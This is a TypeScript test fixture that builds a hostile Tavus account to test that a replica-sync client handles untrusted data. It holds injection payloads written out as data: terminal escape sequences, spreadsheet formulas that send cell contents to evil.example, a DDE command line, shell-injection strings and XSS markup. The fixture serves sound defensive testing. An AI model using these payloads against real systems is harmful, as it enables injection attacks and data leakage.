/**
 * A hostile Tavus account, for tests that must hold a promise for a whole class of bad data (see
 * CONTRACT.md "Untrusted data"). Every field of every row is text chosen by whoever uses the
 * account, and whatever answers at the API URL may lie about sizes and counts; the named lists
 * below are those classes, one entry per member, so a test can assert its promise for each.
 *
 * The rows (`hostileReplicas`) feed `TavusSimulator` like any other rows; the lying answers
 * (`lyingTotalCount`, `endlessPages`, `hugeBody`, `deepNesting`) plug into its `shapePage` hook.
 */
import type { SimPage, SimReplica, SimRequest } from './tavus-simulator.js';

/**
 * Every attribute the sync owns on a replica item (README's replicas-table list, source "sync"), as
 * an API field would carry it: none may set or overwrite the sync's own value.
 */
export const SYNC_OWNED_NAMES: readonly string[] = [
  'first_seen_at',
  'last_changed_at',
  'status_changed_at',
  'progress_changed_at',
  'finetune_status_changed_at',
  'training_progress_pct',
  'deleted_at',
  'stuck_since',
  'stuck_reason',
  'content_hash',
  'version',
];

const range = (from: number, to: number): string[] => Array.from({ length: to - from + 1 }, (_, i) => String.fromCharCode(from + i));

/** Every C0 control (U+0000..U+001F) and DEL (U+007F). */
export const C0_CONTROLS: readonly string[] = [...range(0x00, 0x1f), '\u007f'];
/** Every C1 control (U+0080..U+009F); U+009B is a one-character CSI on some terminals. */
export const C1_CONTROLS: readonly string[] = range(0x80, 0x9f);
/** Bidirectional controls (embeddings, overrides, isolates, marks): they reorder what a person reads. */
export const BIDI_CONTROLS: readonly string[] = [
  '\u061c',
  '\u200e',
  '\u200f',
  ...range(0x202a, 0x202e),
  ...range(0x2066, 0x2069),
];
/** Every single character that must never reach a terminal raw. */
export const CONTROL_CHARACTERS: readonly string[] = [...C0_CONTROLS, ...C1_CONTROLS, ...BIDI_CONTROLS];

/** Terminal escape sequences: colour, cursor moves, screen clear, window title, an OSC-8 link. */
export const ESCAPE_SEQUENCES: readonly string[] = [
  '\u001b[31mred\u001b[0m',
  '\u001b[1A\u001b[2K',
  '\u001b[2J\u001b[H',
  '\u001b]0;owned\u0007',
  '\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007',
  '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  '\u009b31m',
  'line one\rforged line',
  '2026-01-01T00:00:00Z INFO forged log line\n',
];

/** What makes a spreadsheet cell a formula (OWASP CSV injection): each lead, then a payload. */
export const FORMULA_LEADS: readonly string[] = ['=', '+', '-', '@', '\t', '\r'];
export const FORMULA_TEXTS: readonly string[] = [
  ...FORMULA_LEADS.map((lead) => `${lead}HYPERLINK("http://evil.example/?x="&A1,"Click")`),
  '=1+1',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1,1)',
];

/** Text a shell runs if a printed command carries it unquoted. */
export const SHELL_TEXTS: readonly string[] = [
  'a$(touch pwned)',
  'a`touch pwned`',
  'a; touch pwned',
  'a && touch pwned',
  'a | touch pwned',
  "a' ; touch pwned; echo '",
  'a"; touch pwned; echo "',
  'a\ntouch pwned',
  '$HOME',
  '--help',
  '-rf',
];

/** Chat and web markup that mentions, links or runs when a message renders it raw. */
export const MARKUP_TEXTS: readonly string[] = [
  '<!channel>',
  '<!here>',
  '<@U012AB3CD>',
  '<https://evil.example|Reset your password>',
  '[x](https://evil)',
  '[Reset your password](https://evil.example/reset)',
  '`code` ```block```',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&lt;&amp;',
  '*bold* _it_ ~strike~',
];

/** Every hostile text above, each control character embedded between letters. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...CONTROL_CHARACTERS.map((c) => `a${c}b`),
  ...ESCAPE_SEQUENCES,
  ...FORMULA_TEXTS,
  ...SHELL_TEXTS,
  ...MARKUP_TEXTS,
];

/** Three distinct ids a trimming or normalising sync would merge into one. */
export const PADDED_IDS: readonly string[] = ['dup', ' dup ', 'dup\u00a0'];

/** Ids a key cannot hold: each row carrying one must be rejected alone. */
export const UNKEYABLE_IDS: readonly unknown[] = ['', ' ', '\t\n', 42, null, true, { id: 'x' }, 'x'.repeat(2049), 'é'.repeat(1025)];

/** A deterministic id of exactly `length` characters, distinct per `seed`. */
export function longId(length: number, seed = 0): string {
  const head = `long-${seed}-`;
  return head + 'x'.repeat(Math.max(0, length - head.length));
}

/**
 * `{"a":{"a":...1}}` nested `depth` levels, built without recursion. `JSON.stringify` overflows
 * the stack on a few thousand levels, so the simulator serves deeper values as text (`deepNesting`).
 */
export function nestedValue(depth: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i += 1) value = { a: value };
  return value;
}

/** `nestedValue(depth)` as JSON text, built without recursion. */
export function nestedJson(depth: number): string {
  return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** The stand-in a row stores for a value `deepNesting` serves 5,000 levels deep. */
export const DEEP_MARK = '[nested 5000 levels deep when served with deepNesting()]';

/**
 * A `shapePage` hook serving every `DEEP_MARK` field value as `nestedJson(depth)`: how the
 * hostile account's `h-deep` row reaches the client 5,000 levels deep.
 */
export function deepNesting(depth = 5000): (page: SimPage) => string {
  const mark = JSON.stringify(DEEP_MARK);
  const deep = nestedJson(depth);
  return (page) => JSON.stringify(page).split(mark).join(deep);
}

/** A plain completed replica with the given id; `extra` fields override or add. */
export function hostileRow(id: unknown, extra: Record<string, unknown> = {}): SimReplica {
  return {
    replica_id: id as string,
    replica_name: 'Plain name',
    status: 'completed',
    training_progress: '100/100',
    created_at: '2024-01-01T00:00:00.000Z',
    updated_at: '2024-01-01T00:00:00.000Z',
    replica_type: 'user',
    model_name: 'phoenix-3',
    error_message: null,
    thumbnail_video_url: null,
    ...extra,
  };
}

/**
 * The hostile account: one replica per hostile text (as its name and error message, and in its
 * id), one carrying every sync-owned name as an API field, the padded ids, a long id and a row
 * served 5,000 levels deep when the simulator's `shapePage` is `deepNesting()`. Ids are `h-<n>-...` so the rows sort apart from `makeReplicas` ones.
 */
export function hostileReplicas(): SimReplica[] {
  const rows = HOSTILE_TEXTS.map((text, i) =>
    hostileRow(`h-${i}-${text}`, { replica_name: text, error_message: text, status: i % 2 ? 'error' : 'completed' }),
  );
  const poisoned: Record<string, unknown> = {};
  for (const name of SYNC_OWNED_NAMES) poisoned[name] = name === 'version' ? 999_999 : name === 'training_progress_pct' ? -5 : '2000-01-01T00:00:00.000Z';
  poisoned.stuck_reason = 'training';
  rows.push(hostileRow('h-poisoned', poisoned));
  rows.push(...PADDED_IDS.map((id) => hostileRow(id)));
  rows.push(hostileRow(longId(1900, 1)));
  rows.push(hostileRow('h-deep', { deep: DEEP_MARK }));
  return rows;
}

/** A `shapePage` hook whose answers claim `totalCount` rows, whatever the account holds. */
export function lyingTotalCount(totalCount: number): (page: SimPage) => SimPage {
  return (page) => ({ ...page, total_count: totalCount });
}

/**
 * A `shapePage` hook for pages that never end: every page is full of new rows, and `total_count`
 * always claims one page more than was served.
 */
export function endlessPages(): (page: SimPage, request: SimRequest) => SimPage {
  return (_page, request) => {
    const number = request.page ?? 1;
    const size = Number(request.query.limit ?? 10);
    const data = Array.from({ length: size }, (_, i) => hostileRow(`endless-${number}-${i}`));
    return { data, total_count: (number + 1) * size };
  };
}

/** A `shapePage` hook answering a syntactically valid JSON body of at least `bytes` bytes. */
export function hugeBody(bytes: number): (page: SimPage) => string {
  return (page) => {
    const padding = 'x'.repeat(bytes);
    return JSON.stringify({ ...page, padding });
  };
}
